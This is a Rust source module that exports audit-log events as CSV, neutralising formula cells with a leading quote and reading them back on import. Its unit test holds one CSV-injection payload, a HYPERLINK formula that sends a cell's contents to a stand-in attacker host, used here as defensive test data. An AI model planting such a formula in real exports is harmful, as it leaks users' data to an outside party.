//! The CSV form of an event, shared by `trail export` and the API's export: the columns of the
//! event JSON, with attributes and change as JSON in their cells.
//!
//! CSV is for spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` (or a tab or
//! carriage return before one) as a formula: a login attempt's username could otherwise become a
//! link that sends a row away. Every such cell is written with a leading `'` (OWASP's advice),
//! and so is a cell that starts with `'` itself, so that reading Trail's CSV back
//! ([`cell_value`]) gives every original value. NDJSON stays the lossless format.

use crate::Event;
use crate::time;

pub const CSV_HEADER: [&str; 19] = [
    "id",
    "time",
    "user",
    "client",
    "process",
    "kind",
    "action",
    "name",
    "severity",
    "outcome",
    "message",
    "attributes",
    "request_id",
    "session_id",
    "job_id",
    "parent_id",
    "change",
    "submitted_by",
    "hash",
];

/// The characters that make a spreadsheet read a cell as a formula, and the quote that marks a
/// neutralised cell.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A cell as written: with a leading `'` when a spreadsheet would run it (see the module).
pub fn neutralised(cell: String) -> String {
    if cell.starts_with(FORMULA_STARTS) { format!("'{cell}") } else { cell }
}

/// A cell of Trail's CSV as the value it holds: the leading `'` [`neutralised`] added, removed.
pub fn cell_value(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// One row of Trail's CSV as an event input, for `import`: each cell under its header, read
/// back with [`cell_value`]. Empty cells are absent values, and `id` and `hash` are Trail's
/// own, made again on import.
pub fn event_input_from_cells<'a>(
    headers: impl IntoIterator<Item = &'a str>,
    cells: impl IntoIterator<Item = &'a str>,
) -> Result<crate::event::EventInput, String> {
    let mut object = serde_json::Map::new();
    for (header, cell) in headers.into_iter().zip(cells) {
        let value = cell_value(cell);
        if value.is_empty() || header == "id" || header == "hash" {
            continue;
        }
        let json = match header {
            "attributes" | "change" => {
                serde_json::from_str(value).map_err(|error| format!("column {header} is not JSON: {error}"))?
            }
            _ => serde_json::Value::String(value.to_owned()),
        };
        object.insert(header.to_owned(), json);
    }
    serde_json::from_value(serde_json::Value::Object(object)).map_err(|error| error.to_string())
}

/// One event's cells, in [`CSV_HEADER`] order, neutralised for spreadsheets.
pub fn csv_fields(event: &Event) -> [String; 19] {
    raw_fields(event).map(neutralised)
}

fn raw_fields(event: &Event) -> [String; 19] {
    let body = &event.body;
    let text = |value: &Option<String>| value.clone().unwrap_or_default();
    let json = |value: serde_json::Result<String>| value.unwrap_or_default();
    [
        event.id.to_string(),
        time::format_rfc3339(body.time),
        body.user.clone(),
        text(&body.client),
        body.process.clone(),
        body.kind.clone(),
        body.action.clone(),
        body.name.clone(),
        body.severity.name().to_owned(),
        body.outcome.map_or(String::new(), |o| o.name().to_owned()),
        body.message.clone(),
        json(serde_json::to_string(&body.attributes)),
        text(&body.request_id),
        text(&body.session_id),
        text(&body.job_id),
        text(&body.parent_id),
        body.change.as_ref().map_or(String::new(), |c| json(serde_json::to_string(c))),
        text(&body.submitted_by),
        event.hash.clone(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_read_back_whole() {
        let attack = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        for value in [attack, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "'quoted", "''", "plain", "", "a=b"] {
            let cell = neutralised(value.to_owned());
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run");
            assert_eq!(cell_value(&cell), value, "read back as written");
        }
        assert_eq!(neutralised("plain".into()), "plain", "ordinary cells are untouched");
    }
}
